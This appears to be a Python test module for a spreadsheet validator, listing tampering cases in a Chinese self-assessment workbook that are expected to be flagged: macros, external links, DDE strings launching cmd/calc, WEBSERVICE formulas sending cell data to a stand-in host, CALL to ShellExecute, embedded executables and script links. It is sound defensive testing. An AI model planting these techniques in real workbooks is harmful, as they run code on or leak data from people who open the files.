"""Tampering for what runs: macros, links, connections, objects, and formulas that fetch or start something."""

from __future__ import annotations

from lxml import etree

from tests import making
from tests.making import BOOK, FORM, WHOLE, Parts, at, tag
from tests.returns.active_edits import (
    CONNECTIONS,
    added,
    anchored,
    based_on,
    beside_formats,
    coloured_by,
    drawn,
    explained,
    linked,
    mapped,
    named,
    queries,
    related,
    sparkline,
    special_sheet,
    typed,
    vml,
    vml_object,
)
from tests.returns.tampering import (
    LINK,
    MACRO,
    Edit,
    Tampering,
    formula,
    name_moved,
    part,
)

REL = "http://schemas.microsoft.com/office"
XML = b"<x/>"
REASON = at("i01.reason")
BOUND = '<Map ID="1" Name="m" RootElement="r" SchemaID="S"><DataBinding FileBinding="1" DataBindingLoadMode="1"/></Map>'
PROGRAM = LINK.replace(b"/>", b'><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>')


def connected_in_disguise(parts: Parts) -> None:
    """A connection in a part of another name, its type in UTF-16."""
    added("xl/c1.xml", CONNECTIONS, kind="connections")(parts)
    typed(parts, "xl/c1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    parts["[Content_Types].xml"] = etree.tostring(parts.root("[Content_Types].xml")).decode().encode("utf-16")


def of_type(part: str, kind: str, data: bytes = XML) -> Edit:
    """A part that nothing leads to and only its type tells."""
    return added(part, data, type_=kind)


def outside_file(parts: Parts) -> None:
    """Another file that the workbook leads to, though no part says so."""
    related(parts, BOOK, "externalLinkPath", "file:///c:/a.xlsx", outside=True)


def picture_from_outside(parts: Parts) -> None:
    """A picture beside the form that is fetched from another computer."""
    drawn(anchored("18,0,14,0", "20,0,19,0", "<x:pic/>"))(parts)
    related(parts, "xl/drawings/drawing7.xml", "image", "\\\\host\\share\\a.png", outside=True)


def button(content: str) -> Edit:
    """A button of the old form beside the sheet that starts something."""
    return vml(vml_object("Button", "18, 0, 14, 0, 20, 0, 19, 0", content))


def placed(reference: str, location: str) -> Edit:
    """A link to a place that should be in the workbook."""

    def edit(parts: Parts) -> None:
        linked(reference, "http://a.example/")(parts)
        item = parts.sheet().find(tag("hyperlinks"))[-1]
        item.attrib.clear()
        item.attrib.update({"ref": reference, "location": location})

    return edit


BASIC: tuple[Tampering, ...] = (
    Tampering("an external link", part("xl/externalLinks/externalLink1.xml", LINK), "G108", WHOLE),
    Tampering("a macro inside", part("xl/vbaProject.bin", MACRO), "G109", WHOLE),
)
"""Kinds that are tried in a department as well."""

KINDS: tuple[Tampering, ...] = (
    *BASIC,
    Tampering("a link by its relationship alone", added("xl/l1.xml", LINK, kind="externalLink"), "G108", WHOLE),
    Tampering("a link of another type of relationship", outside_file, "G108", WHOLE),
    Tampering(
        "a macro by its relationship alone",
        added("xl/m.bin", MACRO, kind=f"{REL}/2006/relationships/vbaProject"),
        "G109",
        WHOLE,
    ),
    Tampering(
        "a macro by its type alone", of_type("xl/m.bin", "application/vnd.ms-office.vbaProject", MACRO), "G109", WHOLE
    ),
    Tampering(
        "a macro of WPS",
        added("xl/JDEData.bin", MACRO, kind="http://www.wps.cn/officeDocument/2018/jdeExtension"),
        "G109",
        WHOLE,
    ),
    Tampering("a sheet of old macros", special_sheet("xlMacrosheet", "macrosheets"), "G109", WHOLE, alone=False),
    Tampering("a sheet of old dialogs", special_sheet("dialogsheet", "dialogsheets"), "G109", WHOLE, alone=False),
    Tampering(
        "a name that Excel runs when it opens", named("_xlnm.Auto_Open", "自评表!$A$1"), "G167", "名称“_xlnm.Auto_Open”"
    ),
    Tampering("a name of a macro", named("算", "自评表!$A$1", function="1", vbProcedure="1"), "G167", "名称“算”"),
    Tampering("a connection in a renamed part", connected_in_disguise, "G162", WHOLE),
    Tampering("a connection that nothing leads to", added("xl/connections.xml", CONNECTIONS), "G162", WHOLE),
    Tampering("a query on the form", added("xl/q.xml", XML, source=FORM, kind="queryTable"), "G162", FORM),
    Tampering("queries of Power Query", queries, "G162", WHOLE),
    Tampering("real-time data", added("xl/volatileDependencies.xml", XML, kind="volatileDependencies"), "G162", WHOLE),
    Tampering("a data model", added("xl/model/item.data", b"x", kind="powerPivotData"), "G162", WHOLE),
    Tampering(
        "an embedded object", added("xl/embeddings/oleObject1.bin", MACRO, source=FORM, kind="oleObject"), "G162", FORM
    ),
    Tampering(
        "an embedded document under another name", added("xl/x.docx", b"PK", source=FORM, kind="package"), "G162", FORM
    ),
    Tampering("an ActiveX control", added("xl/a.xml", XML, source=FORM, kind="control"), "G162", FORM),
    Tampering("a control of forms", added("xl/p.xml", XML, source=FORM, kind="ctrlProp"), "G162", FORM),
    Tampering(
        "a control by its type alone", of_type("xl/a.xml", "application/vnd.ms-office.activeX+xml"), "G162", WHOLE
    ),
    Tampering("a button that starts a macro", button("<x:FmlaMacro>[0]!x</x:FmlaMacro>"), "G162", FORM),
    Tampering(
        "a shape that starts a macro", drawn(anchored("18,0,14,0", "20,0,19,0", '<x:sp macro="[1]!x"/>')), "G162", FORM
    ),
    Tampering(
        "a pane of an add-in",
        added("xl/webextensions/taskpanes.xml", XML, source="", kind=f"{REL}/2011/relationships/webextensiontaskpanes"),
        "G162",
        WHOLE,
    ),
    Tampering(
        "an add-in of Office",
        added("xl/w.xml", XML, source="", kind=f"{REL}/2011/relationships/webextension"),
        "G162",
        WHOLE,
    ),
    Tampering(
        "a ribbon of its own",
        added("ui.xml", XML, source="", kind=f"{REL}/2007/relationships/ui/extensibility"),
        "G162",
        WHOLE,
    ),
    Tampering(
        "buttons of the quick bar",
        added("u.xml", XML, source="", kind=f"{REL}/2006/relationships/ui/userCustomization"),
        "G162",
        WHOLE,
    ),
    Tampering(
        "old toolbars",
        added("xl/attachedToolbars.bin", b"x", kind=f"{REL}/2006/relationships/attachedToolbars"),
        "G162",
        WHOLE,
    ),
    Tampering("a link to another program", added("xl/d.xml", PROGRAM, kind="externalLink"), "G162", WHOLE, alone=False),
    Tampering("a picture from another computer", picture_from_outside, "G108", WHOLE),
    Tampering(
        "WEBSERVICE in 出错说明", explained('WEBSERVICE("http://a.example/?"&自评表!H25)'), "G161", "校验结果!E4"
    ),
    Tampering("DDE in 出错说明", explained("cmd|'/c calc'!A1"), "G161", "校验结果!E4"),
    Tampering("RTD in 出错说明", explained('RTD("a.b","","c")'), "G161", "校验结果!E4"),
    Tampering("CALL in 出错说明", explained('CALL("Shell32","ShellExecuteA","JJCCCJJ",0)'), "G161", "校验结果!E4"),
    Tampering("another file in 出错说明", explained("'\\\\host\\share\\[x.xlsx]S'!A1"), "G161", "校验结果!E4"),
    Tampering("a link to a program in 出错说明", explained('HYPERLINK("\\\\host\\a.exe","看")'), "G161", "校验结果!E4"),
    Tampering(
        "a picture from the web in 出错说明", explained('_xlfn.IMAGE("http://a.example/1.png")'), "G161", "校验结果!E4"
    ),
    Tampering("a name that fetches", named("取", 'WEBSERVICE("http://a.example")'), "G167", "名称“取”"),
    Tampering("a name that starts a program", named("取", "cmd|'/c calc'!A1", hidden="1"), "G167", "名称“取”"),
    Tampering(
        "a name that points to another file and fetches",
        named("取", '[1]Sheet1!$A$1+WEBSERVICE("http://a.example")'),
        "G167",
        "名称“取”",
    ),
    Tampering(
        "an issued name that points to another file",
        name_moved("pe_total_score", "[1]Sheet1!$A$1"),
        "G167",
        "名称“pe_total_score”",
        alone=False,
    ),
    Tampering(
        "a conditional format that fetches",
        beside_formats("T30", 'WEBSERVICE("http://a.example")="1"'),
        "G161",
        "自评表!T30",
        alone=False,
    ),
    Tampering(
        "a limit of colours that fetches",
        coloured_by('_xlfn.WEBSERVICE("http://a.example")'),
        "G161",
        "自评表!T30",
        alone=False,
    ),
    Tampering("a small chart of another file", sparkline("T30", "[1]S!A1:A9"), "G161", "自评表!T30"),
    Tampering("links that begin on another computer", based_on("file://host/share/"), "G162", WHOLE),
    Tampering("a map of XML that fetches a file", mapped(BOUND), "G162", WHOLE),
    Tampering("a program in the file", part("evil.exe", b"MZ"), "G162", WHOLE),
    Tampering("a program called otherwise", part("docProps/thumbnail.jpeg", b"MZ\x90\0"), "G162", WHOLE),
    Tampering("a program of Linux", part("xl/a.bin", b"\x7fELF\2\1"), "G162", WHOLE),
    Tampering("a script in the file", part("a", b"#!/bin/sh\n"), "G162", WHOLE),
    Tampering("a page in the file", part("xl/a.xml", b'<?xml version="1.0"?>\n<!DOCTYPE html><html/>'), "G162", WHOLE),
    Tampering("a program that is led to", added("xl/a.hta", XML, kind="image"), "G162", WHOLE),
    Tampering("a script by its type", of_type("xl/a.xml", "text/javascript"), "G162", WHOLE),
    Tampering(
        "an answer that fetches",
        lambda parts: making.fill(parts.sheet(), at("i01.actual"), 900, formula='WEBSERVICE("http://a.example")'),
        "G125",
        "i01.actual",
    ),
    Tampering(
        "a score that fetches",
        formula("i01.score", "IF(", 'IF(WEBSERVICE("http://a.example")="",1,0)+IF('),
        "G102",
        "i01.score",
    ),
    Tampering(
        "a formula that fetches beside the form",
        lambda parts: making.fill(parts.sheet(), "T30", 1, formula='WEBSERVICE("http://a.example")'),
        "G113",
        "自评表!T30",
    ),
    Tampering(
        "a link to another computer on an answer",
        linked(at("i01.reason"), "\\\\host\\share\\a.xlsx"),
        "G164",
        "i01.reason",
    ),
    Tampering("a link to a program on an answer", linked(at("i01.reason"), "工具.exe"), "G164", "i01.reason"),
    Tampering("a link that runs a script", linked(at("i01.reason"), "javascript:x()"), "G164", "i01.reason"),
    Tampering("a query on an answer", linked(at("i01.reason"), "取数.iqy"), "G164", "i01.reason"),
    Tampering("a link to another site than it says", linked(REASON, "http://a.cn@b.cn/"), "G164", "i01.reason"),
    Tampering("a link inside that leads out", placed(REASON, "'\\\\host\\[a.xlsx]S'!A1"), "G164", "i01.reason"),
    Tampering("a link on a locked cell", linked(at("total.score"), "http://a.example/"), "G164", "total.score"),
    Tampering("a link to another computer beside the form", linked("T30", "file://host/a"), "G164", "自评表!T30"),
)
"""Done so that something runs."""
